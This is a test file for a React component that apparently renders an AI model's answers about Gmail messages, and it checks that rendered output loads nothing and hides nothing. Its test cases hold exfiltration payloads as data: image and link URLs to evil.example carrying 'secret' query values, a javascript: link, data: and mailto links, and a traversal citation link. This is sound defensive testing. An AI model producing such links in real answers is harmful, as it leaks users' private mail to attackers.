import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";

import { Answer } from "./answer.tsx";

const html = (text: string, links: string[] = []) =>
  renderToStaticMarkup(
    <Answer text={text} links={links} arriving={false} onCite={() => undefined} />,
  );

describe("an answer loads nothing and hides nothing", () => {
  test.each([
    ["an image", "![x](https://evil.example/p.png?mail=secret)"],
    ["an image by reference", "![x][1]\n\n[1]: https://evil.example/p.png"],
    ["HTML", '<img src="https://evil.example/p.png">'],
    ["an HTML block", '<iframe src="https://evil.example/"></iframe>'],
    ["a script link", "[x](javascript:alert(1))"],
    ["a data link", "[x](data:text/html,hi)"],
    ["an extension link", "[x](chrome-extension://abc/panel.html)"],
  ])("%s", (_name, text) => {
    expect(html(text)).not.toMatch(
      /evil\.example|<img|<iframe|javascript:|data:|chrome-extension:/,
    );
  });

  test("a link says where it goes, whatever its text says", () => {
    const shown = html("[https://bank.example](https://evil.example/a?b=c)", [
      "https://evil.example/a?b=c",
    ]);
    expect(shown).toContain(">evil.example<");
    expect(shown).not.toContain("bank.example");
    expect(shown).toContain('rel="noopener noreferrer"');
  });

  test.each([
    ["composed by the model", "[terms](https://evil.example/?d=SECRET)"],
    ["with more behind it", "[terms](https://room.example/a?d=SECRET)"],
    ["in angle brackets", "<https://evil.example/?d=SECRET>"],
    ["behind entities", "[terms](https&#58;//evil.example/?d=SECRET)"],
    ["behind escapes", "[terms](https\\://evil.example/?d=SECRET)"],
    ["without slashes", "[terms](https:evil.example/?d=SECRET)"],
    ["by reference", "[terms]\n\n[terms]: https://evil.example/?d=SECRET"],
    ["without a scheme", "[terms](//evil.example/?d=SECRET)"],
    ["in another alphabet", "[terms](https://xn--bnk-fla.example/?d=SECRET)"],
    ["to write a mail", "[terms](mailto:eve@evil.example?body=SECRET)"],
    ["of the citations' own scheme, with more in it", "[1](vaultdesk-message:../SECRET)"],
    ["to call", "[terms](tel:0123)"],
  ])("a link %s is none", (_name, text) => {
    const shown = html(text, ["https://room.example/a"]);
    expect(shown).not.toMatch(/<a |href|<button/);
    expect(shown).toContain("left out");
  });

  test("a link that stood in a mail is one", () => {
    expect(html("[the room](https://room.example/a)", ["https://room.example/a"])).toContain(
      'href="https://room.example/a"',
    );
  });

  test("a table is one, and scrolls by keyboard", () => {
    const shown = html("| Term | Value |\n| --- | --- |\n| Price | 90m [msg:19d847db53731d21] |");
    expect(shown).toMatch(/<section class="wide" tabindex="0".*<th>Term<\/th>.*<button/);
  });

  test("addresses in the text stay text", () => {
    expect(html("See https://evil.example/a or ana@helio.example")).toContain(
      "<p>See https://evil.example/a or ana@helio.example</p>",
    );
  });

  test("a task list has no box to tick", () => {
    expect(html("- [x] done")).not.toContain("<input");
  });

  test("a citation is a button with its number, not a link", () => {
    const shown = html("Open [msg:19d847db53731d21].");
    expect(shown).toContain('aria-label="Show message 1 in Gmail"');
    expect(shown).not.toContain("href");
  });
});
